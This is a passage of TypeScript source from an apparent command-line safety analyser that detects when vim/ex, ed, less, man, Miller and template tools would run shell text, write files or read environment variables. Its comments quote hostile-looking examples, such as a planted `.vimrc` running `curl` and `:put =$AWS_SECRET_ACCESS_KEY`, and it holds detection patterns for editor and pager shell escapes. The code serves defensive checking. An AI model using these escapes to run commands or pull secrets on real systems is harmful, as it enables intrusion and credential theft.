/** Ex commands (`-c`, `+cmd`, `--cmd`, or a script on stdin), separated by `|`: the ones that run shell text or code. */
export function exCommands(word: Word, via: string): Run[] {
  return exRead(word, via).runs;
}

function exRead(word: Word, via: string, depth = 0): ExRead {
  const out: ExRead = { runs: [], uses: [], writesBack: false };
  const text = value(word);
  if (text === undefined) {
    out.runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: an editor command is computed` });
    return out;
  }
  const runs = out.runs;
  const run = (t: string) => runs.push({ kind: 'text', dialect: 'bash', text: t, word, via });
  const opaque = (why: string, rule: 'dynamic-script' | 'dynamic-code' = 'dynamic-script') => runs.push({ kind: 'opaque', rule, word, why: `${via}: ${why}` });
  const write = (file: string) => {
    if (file === '' || /^\/dev\/(?:null|stdout|stderr)$/.test(file)) out.writesBack ||= file === '';
    else out.uses.push({ word, role: 'write', values: [file] });
  };
  for (const line of text.split('\n')) {
    let rest = line;
    while (rest.trim() !== '') {
      // Leading colons, modifiers (any number, `:silent! verbose vim9cmd …`) and a range (`%`, `'<,'>`, `1,$`).
      let cmd = rest.replace(/^[\s:]+/, '');
      for (;;) {
        const next = cmd.replace(/^(?:sil(?:ent)?!?|keepa?\w*|noa(?:utocmd)?|uns(?:ilent)?|vert(?:ical)?|hor(?:izontal)?|tab|bo(?:tright)?|to(?:pleft)?|lefta?\w*|rightb?\w*|bel(?:owright)?|abo(?:veleft)?|conf(?:irm)?|lockm?\w*|hid(?:e)?|sandbox|san|noswap\w*|keepj\w*|keepp\w*|verb(?:ose)?|\d*verb(?:ose)?|vim9(?:cmd)?|vim9s\w*|leg(?:acy)?|bro(?:wse)?|try|unsilent|\d+|filt(?:er)?!?\s*\/[^/]*\/)(?:\s+|:+\s*)/, '');
        if (next === cmd) break;
        cmd = next.replace(/^[\s:]+/, '');
      }
      cmd = cmd.replace(/^(?:[%.$\d,;+-]|'[<>a-zA-Z]|\/(?:[^/\\]|\\.)*\/|\?(?:[^?\\]|\\.)*\?)*/, '').replace(/^\s+/, '');
      if (cmd.startsWith('!')) {
        run(cmd.slice(1));
        break;
      }
      // `:g/re/cmd`, `:v/re/cmd`, `:windo cmd`, `:bufdo cmd`…: the command runs, once or many times.
      const global = /^(?:g(?:l(?:o(?:b(?:al?)?)?)?)?!?|v(?:g(?:l(?:o(?:b(?:al?)?)?)?)?)?)\s*([^\w\s"|\\])((?:(?!\1)[^\\]|\\.)*)\1?([\s\S]*)$/.exec(cmd);
      const each = /^(?:windo|wind|bufdo|bufd|argdo|argd|tabdo|tabd|cdo|cfdo|cfd|ldo|lfdo|lfd|folddoopen|foldd\w*|folddoc\w*)!?\s+([\s\S]*)$/.exec(cmd);
      const inner = global?.[3] ?? each?.[1];
      if (inner !== undefined) {
        if (depth > 4) opaque('commands nested too deep');
        else {
          const r = exRead(attached(word, inner), via, depth + 1);
          runs.push(...r.runs);
          out.uses.push(...r.uses);
          out.writesBack ||= r.writesBack;
        }
        break;
      }
      const readWrite = /^(r(?:e(?:ad?)?)?|w(?:r(?:i(?:te?)?)?)?|up(?:d(?:a(?:te?)?)?)?)\s*(!?)\s+!?(.*)$/.exec(cmd) ?? /^(r(?:e(?:ad?)?)?)!(.*)$/.exec(cmd);
      if (readWrite && (/^r/.test(readWrite[1]!) ? /!/.test(cmd.slice(readWrite[1]!.length, readWrite[1]!.length + 3)) : /\s!/.test(cmd))) {
        run(cmd.replace(/^\w+\s*!?\s*!?/, ''));
        break;
      }
      // Writes: `:w FILE`, `:w! >> FILE`, `:wq`, `:x`, `:sav FILE`, `:redir > FILE`, `:mksession FILE`, `:wviminfo FILE`.
      const w = /^(?:w(?:r(?:i(?:te?)?)?)?|wq|wqa(?:ll)?|wa(?:ll)?|xa(?:ll)?|xi(?:t)?|x|exi(?:t)?|up(?:d(?:a(?:te?)?)?)?|sav(?:e(?:as?)?)?|wn(?:ext)?|wN(?:ext)?|wp(?:revious)?)(?=[\s!>|]|$)!?\s*(?:>>\s*)?((?:\+\+\S+\s+)*)((?:[^|\\\s]|\\.)*)/.exec(cmd);
      const other = /^(?:redi(?:r)?!?\s*>>?|mks(?:ession)?!?|mkvie(?:w)?!?|mkv(?:imrc)?!?|mkexrc!?|mk!?|wv(?:iminfo)?!?|wsh(?:ada)?!?|wundo!?|w(?:undo)?)\s*((?:[^|\\\s]|\\.)*)/.exec(cmd);
      // Reads: `:r FILE`, `:e FILE`, `:sp FILE`…: the file's content comes into the editor (and `%p` prints it).
      const read = /^(?:r(?:e(?:ad?)?)?|e(?:d(?:it?)?)?|sp(?:l(?:it?)?)?|vs(?:p(?:l(?:it?)?)?)?|tabe(?:d(?:it?)?)?|new|vne(?:w)?|vie(?:w)?|sv(?:iew)?|ar(?:gs)?|bad(?:d)?|diffs(?:plit)?|vert\s+diffs\w*)!?\s+((?:\+\+\S+\s+)*)((?:[^|\\\s!]|\\.)(?:[^|\\\s]|\\.)*)\s*$/.exec(cmd.split('|')[0]!);
      if (read) out.uses.push({ word, role: 'read', values: [read[2]!.replace(/\\(.)/g, '$1')] });
      if (w) write(w[2]!.replace(/\\(.)/g, '$1'));
      else if (other && /^(?:redi|mk|wv|wsh|wundo)/.test(cmd)) {
        const file = other[1]!.replace(/\\(.)/g, '$1');
        if (/^redi/.test(cmd) || file !== '') write(file);
        else write(/^mks/.test(cmd) ? 'Session.vim' : /^mkv/.test(cmd) ? '.vimrc' : '.exrc');
      }
      if (/^(sh(e(ll?)?)?|st(op)?|sus(pend)?)\b/.test(cmd)) opaque('starts an interactive shell');
      else if (/^ter(m(i(n(al?)?)?)?)?\b/.test(cmd)) {
        const arg = cmd.replace(/^\w+\s*(?:\+\+\w+(=\S*)?\s*)*/, '');
        if (arg.trim() === '') opaque('opens a terminal with a shell');
        else run(arg);
        break;
      } else if (/^(py(thon)?3?|pyx|pydo|py3do|pyf(ile)?|py3f(ile)?|lua(do|file)?|perl(do)?|rub(y(do|file)?)?|tcl(do|file)?|mz(scheme|file)?)\b/.test(cmd)) opaque('runs interpreter code', 'dynamic-code');
      else if (/^(?:com(?:m(?:a(?:nd?)?)?)?|au(?:t(?:o(?:c(?:md?)?)?)?)?|fu(?:n(?:c(?:t(?:i(?:on?)?)?)?)?)?|def|exp(?:ort)?|imp(?:ort)?|cal(?:l)?|exe(?:c(?:u(?:te?)?)?)?|norm(?:al)?|dig|map|[nvxsoilct]?(?:nore)?map|[nvxsoilct]?no|ab(?:breviate)?|[ic]?(?:nore)?ab\w*|run\w*|pa(?:ckadd)?|so(?:u(?:r(?:ce?)?)?)?|ru(?:ntime)?|helpg\w*|vimg(?:rep)?|lv(?:imgrep)?|diffp(?:atch)?|diffe\w*|sp(?:ell)?\w*|h(?:elp)?|ha(?:rdcopy)?|e(?:dit)?|ene\w*|vie(?:w)?|sv\w*|new|vne\w*|tabe\w*|tabnew|ar(?:gs)?|arga\w*|argadd|bad(?:d)?|o(?:pen)?)!?(?=[\s!|]|$)/.test(cmd) && !/^(?:e(?:dit)?|h(?:elp)?|new|ene\w*|vie(?:w)?|tabnew|o(?:pen)?|sp(?:lit)?)!?\s*$/.test(cmd)) {
        // User commands, autocommands, functions, mappings, calls, :execute, :normal, and commands that read other files
        // (edit, help, runtime, source, packadd): what runs is out of this reading, or may be (`call system("…")` is read).
        const sys = /^(?:call\s+|echo\s+|let\s+\S+\s*=\s*)?system(?:list)?\s*\(\s*(['"])((?:(?!\1).)*)\1\s*\)\s*$/.exec(cmd.split('|')[0]!.trim());
        if (sys) run(sys[2]!);
        else if (/^(?:e(?:dit)?|sp(?:lit)?|vs\w*|tabe\w*|new|vne\w*|vie(?:w)?|sv\w*|ar(?:gs)?|arga\w*|bad(?:d)?)!?\s+[^|\s]+\s*$/.test(cmd.split('|')[0]!) && !/[`=]/.test(cmd)) {
          // `:e FILE`: a file opened, as an operand would be.
        } else opaque('defines or runs commands, functions, mappings or files vouch does not follow');
      } else if (/system\s*\(|systemlist\s*\(|libcall|job_start|jobstart|term_start|termopen|\bexe(c(ute?)?)?\b|\bnorm(al)?\b|feedkeys|py[3x]?eval|luaeval|perleval|rubyeval|\bso(urce?)?\b|set\s+[^|]*\b(shell|sh|makeprg|mp|grepprg|gp|keywordprg|kp|equalprg|ep|formatprg|fp|shellredir|srr|shellpipe|sp|backupdir|bdir|directory|dir|undodir|udir|viminfo|vi|viminfofile|vif|shada|sd|shadafile|sdf|verbosefile|vfile|packpath|pp|runtimepath|rtp|patchexpr|pex|diffexpr|dex|printexpr|pexpr|charconvert|ccv|backupext|bex|undofile|udf|exrc|ex|secure|modeline|ml|modelineexpr|mle)\s*[=+^!]?/.test(cmd)) {
        const sys = /^(?:call\s+|echo\s+|let\s+\S+\s*=\s*)?system(?:list)?\s*\(\s*(['"])((?:(?!\1).)*)\1\s*\)\s*$/.exec(cmd.split('|')[0]!.trim());
        if (sys) run(sys[2]!);
        else opaque('runs a command or code it builds at run time');
      } else if (/^(mak(e)?|gr(ep)?|lmak(e)?|lgr(ep)?|!)\b/.test(cmd)) opaque('runs an external program');
      else if (VIM_EFFECTS.test(cmd)) opaque('calls a function that writes, deletes, connects, or reads files or the environment');
      // `$NAME` in an expression (`:put =$AWS_SECRET_ACCESS_KEY`, `:echo $TOKEN`) reads that variable.
      if (/^(?:ec\w*|pu(?:t)?!?|let?|cal(?:l)?|if|el(?:seif)?|wh(?:ile)?|for|retu(?:rn)?|th(?:row)?|echom\w*|echon|echoe\w*|echow\w*|exe\w*|redr\w*|s(?:ubstitute)?\b.*\\=|[%.$\d,;'<>]*s\/.*\\=)/.test(cmd) || /\bsetreg\s*\(/.test(cmd)) {
        for (const m of cmd.matchAll(/\$([A-Za-z_]\w*)/g)) run(`printenv ${m[1]}`);
      }
      const bar = cmd.indexOf('|');
      rest = bar < 0 ? '' : cmd.slice(bar + 1);
    }
  }
  return out;
}

/** vim's short options that take a value, attached (`-c'cmd'`) or in the next word. */
const VIM_VALUED = 'cSsuUiTtqwW';

function vim(call: Call): Partial<Answer> {
  const runs: Run[] = [];
  const uses: Uses = [];
  const files: Word[] = [];
  let writesBack = false;
  const args = call.args;
  let exMode = /^ex$|^view$|^(n?vim?|vi)?ex$/.test(call.name);
  const commands = (w: Word, via: string) => {
    const r = exRead(w, via);
    runs.push(...r.runs);
    uses.push(...r.uses);
    writesBack ||= r.writesBack;
  };
  // VIMINIT (EXINIT for ex and vi) holds Ex commands vim runs at start-up, before any file is read.
  for (const name of ['VIMINIT', 'EXINIT', 'GVIMINIT']) {
    const init = call.env(name);
    const at = call.command?.span ?? args[0]?.span ?? { start: 0, end: 0 };
    if (init === null) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: { text: name, span: at, values: null, dynamic: 'computed' }, why: `${name} holds Ex commands computed at run time` });
    else if (init !== undefined) commands({ text: init, span: at, values: [init] }, name);
  }
  // Where the line set HOME (or XDG_CONFIG_HOME for nvim), the vimrc there is the line's own when the line wrote it
  // (`echo '!curl …' > .vimrc; HOME=. vim -es`): read as -u's file is. Untouched, it is the user's, out of scope.
  const home = call.env('HOME');
  const xdg = /^nvim/.test(call.name) ? call.env('XDG_CONFIG_HOME') : undefined;
  const at = args[0] ?? call.command ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
  if (home === null || xdg === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} reads the vimrc of a home directory the line computes` });
  const rcs = [
    ...(typeof home === 'string' && home !== '' ? ['.vimrc', '.vim/vimrc', '.exrc', '_vimrc'].map((f) => `${home.replace(/\/+$/, '')}/${f}`) : []),
    ...(/^nvim/.test(call.name) && (typeof xdg === 'string' || typeof home === 'string') ? [`${(typeof xdg === 'string' && xdg !== '' ? xdg : `${home}/.config`).replace(/\/+$/, '')}/nvim/init.vim`] : []),
  ];
  for (const rc of rcs) runs.push(writtenCommands(attached(at, rc), `${call.name} (its vimrc)`, (t) => exRead(t, `${call.name} vimrc`)));
  let operandsOnly = false;
  for (let i = 0; i < args.length; i++) {
    const v = value(args[i]);
    if (v === undefined) {
      if (!operandsOnly && (args[i]!.text.startsWith('+') || args[i]!.text.startsWith('-'))) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: args[i]!, why: `${call.name}: an editor option is computed` });
      else files.push(args[i]!);
      continue;
    }
    if (operandsOnly || v === '-' || !/^[-+]/.test(v)) {
      if (v === '--' && !operandsOnly) operandsOnly = true;
      else files.push(args[i]!);
      continue;
    }
    if (v === '--') {
      operandsOnly = true;
      continue;
    }
    if (v.startsWith('+')) {
      if (v.length > 1) commands(attached(args[i]!, v.slice(1)), `${call.name} +`);
      continue;
    }
    if (v.startsWith('--')) {
      if (v === '--cmd') {
        if (args[i + 1]) commands(args[i + 1]!, `${call.name} --cmd`);
        i++;
      } else if (/^--(?:remote-send|remote-expr|remote-silent|remote-wait\w*|remote-tab\w*|remote|listen|server)$/.test(v)) {
        runs.push({ kind: 'opaque', rule: 'dynamic-script', word: args[i]!, why: `${call.name} ${v} talks to another editor` });
        i++;
      } else if (v === '--servername' || v === '--startuptime' || v === '--log') i++;
      else if (v === '--embed' || v === '--headless' || v === '--clean' || v === '--noplugin' || v === '--not-a-term' || v === '--ttyfail' || v === '--nofork' || v === '--literal' || v === '--version' || v === '--help' || v === '--api-info') continue;
      else runs.push({ kind: 'opaque', rule: 'dynamic-script', word: args[i]!, why: `${call.name} ${v}: an option this reading does not know` });
      continue;
    }
    // A cluster of short options: `-es`, `-esc CMD`, `-c'CMD'`, `-Nu NONE`.
    for (let j = 1; j < v.length; j++) {
      const letter = v[j]!;
      if (letter === 'e' || letter === 'E') exMode = true;
      // nvim -l SCRIPT runs a Lua script (its input with /dev/stdin): Lua vouch reads only as cannot-vouch here.
      if (letter === 'l' && /^nvim/.test(call.name)) {
        const script = v.length > j + 1 ? attached(args[i]!, v.slice(j + 1)) : args[++i];
        if (script) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: script, why: `${call.name} -l runs a Lua script` });
        operandsOnly = true;
        break;
      }
      // `-s` is silent mode in ex mode, a script of keys otherwise.
      if (!VIM_VALUED.includes(letter) || (letter === 's' && exMode)) continue;
      const attachedText = v.slice(j + 1);
      const w = attachedText !== '' ? attached(args[i]!, attachedText) : args[++i];
      if (!w) break;
      const val = value(w);
      if (letter === 'c') commands(w, `${call.name} -c`);
      else if (letter === 'S' || letter === 's' || letter === 'u' || letter === 'U' || letter === 'i') {
        // Vim script or keys read from a file: the file the line wrote, or its input, is code vouch does not follow.
        if (val === undefined || isStdinPath(val)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: `${call.name} -${letter} reads commands from ${val === undefined ? 'a computed file' : 'its input'}` });
        // A script (-S, -u, -U) the line wrote is read as -c commands are; keys (-s) the line wrote may type any command.
        else if (letter === 's') runs.push({ kind: 'project', file: w, files: /$^/, read: (_t, word, name) => [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${call.name} -s types the keys of ${name}, which the line wrote` }], word: w, via: `${call.name} -s` });
        else if (letter !== 'i' && !/^(NONE|NORC|NOPLUGIN|DEFAULTS)$/.test(val)) runs.push(writtenCommands(w, `${call.name} -${letter}`, (t) => exRead(t, `${call.name} -${letter}`)));
      } else if ((letter === 'w' && !/^\d+$/.test(attachedText)) || letter === 'W') uses.push({ word: w, role: 'write' });
      break;
    }
  }
  if (exMode) {
    if (call.stdin?.kind === 'static') {
      const word = call.stdin.word;
      for (const line of call.stdin.text.split('\n')) commands(attached(word, line), `${call.name} (stdin)`);
    } else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] }, why: `${call.name} runs editor commands read from ${call.stdin.why}` });
  }
  // A `:w` with no name writes the file edited back.
  if (writesBack) for (const f of files) uses.push({ word: f, role: 'write' });
  return { runs, uses };
}

function ed(call: Call): Partial<Answer> {
  const p = parse(call.args, { order: 'gnu', flags: 'GlrsvEx', valued: 'p', long: ['traditional', 'loose-exit-status', 'restricted', 'quiet', 'silent', 'verbose', 'extended-regexp', 'help', 'version'], longValued: ['prompt'] });
  if (has(p, 'help', 'version')) return {};
  const uses: Uses = p.operands.map((o) => ({ word: o.word, role: 'read' as const }));
  const runs: Run[] = [];
  const restricted = has(p, 'r', 'restricted') || call.name === 'red';
  const stdin = call.stdin;
  if (stdin?.kind === 'static') {
    const read = edCommands(stdin.text, stdin.word, call.name);
    if (!restricted) runs.push(...read.runs);
    uses.push(...read.uses);
    // A `w` with no file name writes the file ed edits (its operand) back, with the text the commands added to it.
    if (read.writesBack) for (const o of p.operands) uses.push({ word: o.word, role: 'write' });
    if (read.writesBack || read.uses.some((u) => u.role === 'write')) uses.push({ word: stdin.word, role: 'text' });
  } else if (stdin?.kind === 'stream' && !restricted) {
    runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] }, why: `${call.name} runs commands read from ${stdin.why}` });
  }
  return { runs, uses };
}

// ── pagers and man ─────────────────────────────────────────────────────────────────────────────────────

/**
 * A lesskey source's `#env` section: LESSOPEN and LESSCLOSE set there are commands less runs on each file, as the
 * variables are (`--lesskey-content=TEXT`, `--lesskey-src=FILE`, $LESSKEY_CONTENT, $LESSKEYIN).
 */
function lesskeyRuns(text: string, word: Word, via: string): Run[] {
  const runs: Run[] = [];
  let section = '#command';
  for (const raw of text.split('\n')) {
    const line = raw.trim();
    if (/^#(command|line-edit|env)\b/.test(line)) section = line.split(/\s/)[0]!;
    if (section !== '#env') continue;
    const m = /^(LESSOPEN|LESSCLOSE|LESS)\s*=\s*(.*)$/.exec(line);
    if (!m) continue;
    if (m[1] === 'LESS') {
      if (/\+/.test(m[2]!)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} sets $LESS, whose start-up commands may run shell text` });
    } else runs.push({ kind: 'text', dialect: 'bash', text: m[2]!.replace(/^\|?\|?-?/, '').replace(/%s/g, 'file'), word, via: `${via} #env ${m[1]}` });
  }
  return runs;
}

/** less, more, pg: `+cmd` start-up commands, of which `!cmd` (and `|m cmd`) run shell text. */
function pager(call: Call): Partial<Answer> {
  const runs: Run[] = [];
  const uses: Uses = [];
  const at = call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
  // less reads $LESS (and more $MORE) with the same scanner as its arguments, `+cmd` included; $LESSOPEN and
  // $LESSCLOSE are commands it runs on each file.
  for (const name of ['LESS', 'MORE']) {
    const env = call.env(name);
    if (env === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} reads options from $${name}, which is computed` });
    else if (env !== undefined && /\+/.test(env)) {
      const command = pagerStartCommand(env);
      if (command !== undefined) runs.push({ kind: 'text', dialect: 'bash', text: command, word: attached(at, env), via: `${call.name} $${name} +!` });
      else if (/[`$]/.test(env)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} runs start-up commands from $${name}` });
    }
  }
  for (const name of ['LESSOPEN', 'LESSCLOSE']) {
    const env = call.env(name);
    if (env === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} runs $${name}, which is computed` });
    else if (env !== undefined && env !== '') runs.push({ kind: 'text', dialect: 'bash', text: env.replace(/^\|?\|?-?/, '').replace(/%s/g, 'file'), word: attached(at, env), via: `${call.name} $${name}` });
  }
  // less's lesskey sources, whose #env section may set LESSOPEN: text, or a file (one the line wrote is read).
  if (call.name === 'less') {
    const content = call.env('LESSKEY_CONTENT');
    const source = call.env('LESSKEYIN');
    if (content === null || source === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: 'less reads a lesskey source from a computed variable' });
    if (content) runs.push(...lesskeyRuns(content, attached(at, content), 'less $LESSKEY_CONTENT'));
    if (source) runs.push(writtenCommands(attached(at, source), 'less $LESSKEYIN', (w) => ({ runs: lesskeyRuns(value(w) ?? '', w, 'less $LESSKEYIN'), uses: [] })));
    for (let i = 0; i < call.args.length; i++) {
      const given = longSpelt(call.args[i], 'lesskey-content') ?? longSpelt(call.args[i], 'lesskey-src');
      if (given === undefined || value(call.args[i]) === '--lesskey-') continue;
      const isContent = longSpelt(call.args[i], 'lesskey-content') !== undefined && longSpelt(call.args[i], 'lesskey-src') === undefined;
      const w = given.value ?? call.args[++i];
      if (w === undefined) continue;
      if (value(w) === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: 'less is given a computed lesskey source' });
      else if (isContent) runs.push(...lesskeyRuns(value(w)!, w, 'less --lesskey-content'));
      else runs.push(writtenCommands(w, 'less --lesskey-src', (t) => ({ runs: lesskeyRuns(value(t) ?? '', t, 'less --lesskey-src'), uses: [] })));
    }
  }
  for (let i = 0; i < call.args.length; i++) {
    const a = call.args[i]!;
    const v = value(a);
    // less -o/-O FILE (`-oFILE`, `--log-file=FILE`, `--LOG-FILE FILE`) copies what it pages from a pipe into FILE.
    const log = call.name === 'less' ? lessLog(a, v, call.args[i + 1]) : undefined;
    if (log) {
      uses.push({ word: log.word, role: 'write' });
      if (log.next) i++;
      continue;
    }
    if (v === undefined) {
      if (a.values === null && a.text.startsWith('+')) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: a, why: 'a pager start-up command is computed' });
      continue;
    }
    if (v.startsWith('+')) {
      const m = /^\+:?(?:[^!|]*)(?:!|\|\S?)(.*)$/s.exec(v);
      if (m) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word: a, via: `${call.name} +!` });
      continue;
    }
    if (!v.startsWith('-')) uses.push({ word: a, role: 'read' });
  }
  // less and more write no file but the log above: what they leave as a read they leave as it was.
  return { runs, uses, ...(call.name === 'less' || call.name === 'more' ? { leavesRead: true as const } : {}) };
}

/**
 * The file less logs its input to: `-o`/`-O` with its value attached or next (also inside a cluster of flags, `-So`),
 * `--log-file`/`--LOG-FILE` with `=` or next. A computed option word may be one: its value is then unknown.
 */
function lessLog(a: Word, v: string | undefined, next: Word | undefined): { word: Word; next: boolean } | undefined {
  if (v === undefined) return a.values === null && /^-/.test(a.text) ? { word: a, next: false } : undefined;
  const long = /^--(?:log-file|LOG-FILE)(=)?(.*)$/.exec(v);
  if (long) return long[1] ? { word: attached(a, long[2]!), next: false } : next ? { word: next, next: true } : undefined;
  const short = /^-[^-oO]*[oO](.*)$/s.exec(v);
  if (!short) return undefined;
  return short[1] !== '' ? { word: attached(a, short[1]!), next: false } : next ? { word: next, next: true } : undefined;
}

function man(call: Call): Partial<Answer> {
  // man-db reads MANOPT as options given before the line's own (a space in one is escaped with a backslash).
  const manopt = call.env('MANOPT');
  if (manopt === null) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: call.command ?? call.args[0] ?? literal('man', { start: 0, end: 0 }), why: 'MANOPT is computed: its options may name a pager man runs' }] };
  const at = call.command?.span ?? call.args[0]?.span ?? { start: 0, end: 0 };
  const extra = manopt === undefined ? [] : (manopt.match(/(?:\\.|\S)+/g) ?? []).map((t) => literal(t.replace(/\\(.)/g, '$1'), at));
  const p = parse([...extra, ...call.args], {
    order: 'gnu',
    flags: 'aDdfhIikltuVwWZcz7',
    valued: 'CRLmMPpSesEr',
    optional: 'HTX',
    long: ['all', 'apropos', 'whatis', 'local-file', 'where', 'path', 'location', 'catman', 'default', 'debug', 'help', 'version', 'ditroff', 'regex', 'wildcard', 'names-only', 'match-case', 'no-subpages', 'update', 'no-hyphenation', 'no-justification', 'troff'],
    longValued: ['config-file', 'pager', 'locale', 'systems', 'manpath', 'sections', 'extension', 'encoding', 'preprocessor', 'prompt', 'recode'],
    longOptional: ['html', 'troff-device', 'gxditview'],
  });
  const runs: Run[] = [];
  for (const o of p.options) {
    if ((o.name === 'P' || o.name === 'pager') && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} --pager` });
    if ((o.name === 'H' || o.name === 'html') && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} --html` });
  }
  // A page name with a slash, or any name under -l/--local-file, is a file man formats and shows (GTFOBins' file-read).
  const local = p.options.some((o) => o.name === 'l' || o.name === 'local-file');
  return { runs, uses: p.operands.map((o) => ({ word: o.word, role: local || (value(o.word) ?? '/').includes('/') ? ('read' as const) : ('text' as const) })) };
}

/** A double-quoted Miller string literal's text, or undefined when the expression there is anything else. */
function millerString(text: string): string | undefined {
  const m = /^\s*"((?:[^"\\]|\\.)*)"\s*$/s.exec(text);
  return m ? m[1]!.replace(/\\(.)/g, '$1') : undefined;
}

/**
 * Miller (mlr): its DSL (put, filter) starts commands with system() and exec() and pipes output to them (`tee | "cmd",
 * $*`), writes files with `> "path"`, and holds the whole environment in ENV; --prepipe runs shell text on each input.
 */
function miller(call: Call): Partial<Answer> {
  const runs: Run[] = [];
  const uses: Answer['uses'] = [];
  let dumps: string | undefined;
  const code = (word: Word, text: string) => {
    for (const m of text.matchAll(/\b(system|exec)\s*\(\s*("(?:[^"\\]|\\.)*"|[^,)]*)\s*(?:,\s*\[([^\]]*)\])?/g)) {
      const cmd = millerString(m[2]!);
      if (cmd === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-command', word, why: `mlr ${m[1]}() runs a computed command` });
      else if (m[1] === 'system') runs.push({ kind: 'text', dialect: 'bash', text: cmd, word, via: 'mlr system()' });
      else {
        const args = (m[3] ?? '').split(',').filter((a) => a.trim() !== '').map(millerString);
        if (args.some((a) => a === undefined)) runs.push({ kind: 'opaque', rule: 'dynamic-command', word, why: 'mlr exec() is given computed arguments' });
        else runs.push({ kind: 'argv', argv: [cmd, ...(args as string[])].map((t) => attached(word, t)), via: 'mlr exec()' });
      }
    }
    // Redirects follow an output statement: `tee > "f", $*`, `print | "cmd", x`, `emit > stderr, @m`.
    const out = '\\b(?:tee|emit1?|emitp|emitf|print|printn|eprint|eprintn|dump|edump)\\s*';
    for (const m of text.matchAll(new RegExp(`${out}\\|\\s*("(?:[^"\\\\]|\\\\.)*"|[^,;}]+)\\s*,`, 'g'))) {
      const cmd = millerString(m[1]!);
      runs.push(cmd === undefined ? { kind: 'opaque', rule: 'dynamic-command', word, why: 'mlr pipes its output to a computed command' } : { kind: 'text', dialect: 'bash', text: cmd, word, via: 'mlr | "cmd"' });
    }
    for (const m of text.matchAll(new RegExp(`${out}>>?\\s*("(?:[^"\\\\]|\\\\.)*"|[^,;}]+)\\s*,`, 'g'))) {
      if (/^\s*(stdout|stderr)\s*$/.test(m[1]!)) continue;
      const path = millerString(m[1]!);
      uses.push(path === undefined ? { word: { ...word, values: null, dynamic: 'mlr writes to a computed file' }, role: 'write' } : { word: attached(word, path), role: 'write' });
    }
    if (/\bENV\b(?!\s*\[)/.test(text)) dumps = 'mlr prints ENV, the whole environment';
  };
  const args = call.args;
  for (let i = 0; i < args.length; i++) {
    const v = value(args[i]);
    if (v === '--prepipe' || v === '--prepipex') {
      if (args[i + 1]) runs.push({ kind: 'script', dialect: 'bash', words: [args[i + 1]!], via: `mlr ${v}` });
      continue;
    }
    if (v === undefined) {
      // A computed word may be DSL text after put or filter.
      if (args.slice(0, i).some((a) => /^(put|filter)$/.test(value(a) ?? ''))) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: args[i]!, why: 'mlr is given computed DSL code' });
      continue;
    }
    if (/[(|>]|\bENV\b/.test(v)) code(args[i]!, v);
  }
  return { runs, uses, ...(dumps ? { dumps } : {}) };
}

// ── template expanders ─────────────────────────────────────────────────────────────────────────────────

/**
 * The variables a template takes from the environment, by its expander's syntax: `$NAME` and `${NAME}` (envsubst);
 * Go templates' `env "NAME"`, `getenv "NAME"`, `.Env.NAME` (gomplate, consul-template), with `.Env` alone or a name
 * computed standing for every variable; jinja and mustache names (`{{ NAME }}`, `{% if NAME %}`), which j2, envtpl and
 * mo look up in the environment, with envtpl's `environment()` every variable. `whole`: it may print any variable.
 */
type TemplateSyntax = 'shell' | 'go' | 'jinja' | 'mustache';
function templateVariables(text: string, syntax: TemplateSyntax, only?: ReadonlySet<string>): { names: string[]; whole: boolean } {
  const names = new Set<string>();
  let whole = false;
  if (syntax === 'shell') {
    for (const m of text.matchAll(/\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))/g)) names.add(m[1] ?? m[2]!);
  } else {
    for (const m of text.matchAll(/\{\{-?([\s\S]*?)-?\}\}|\{%-?([\s\S]*?)-?%\}/g)) {
      const body = m[1] ?? m[2] ?? '';
      if (syntax === 'go') {
        for (const e of body.matchAll(/\b(?:env|getenv|env\.Getenv|env\.ExpandEnv|envOrDefault|os\.Getenv)\s+("?)([^\s"})]*)\1/g)) {
          if (e[1] === '"' && /^[A-Za-z_]\w*$/.test(e[2]!)) names.add(e[2]!);
          else whole = true;
        }
        for (const e of body.matchAll(/\.Env(?:\.([A-Za-z_]\w*))?/g)) {
          if (e[1] !== undefined) names.add(e[1]);
          else whole = true;
        }
        if (/\bindex\s+\.Env\b|\benv\.Env\b|\benvironment\b/.test(body)) whole = true;
      } else {
        if (/\benviron(?:ment)?\s*\(/.test(body)) whole = true;
        // Every name the expression looks up (not an attribute after a dot, not a string, not a keyword or filter).
        const bare = body.replace(/"(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*'/g, ' ');
        for (const n of bare.matchAll(/(?<![.\w|])([A-Za-z_]\w*)/g)) if (!/^(?:if|elif|else|endif|for|endfor|in|not|and|or|is|set|endset|true|false|none|True|False|None|defined|loop|with|endwith|block|endblock|extends|include|import|from|as|macro|endmacro|raw|endraw|filter|endfilter|default|d)$/.test(n[1]!)) names.add(n[1]!);
      }
    }
  }
  const kept = only === undefined ? [...names] : [...names].filter((n) => only.has(n));
  return { names: kept, whole: whole && only === undefined };
}

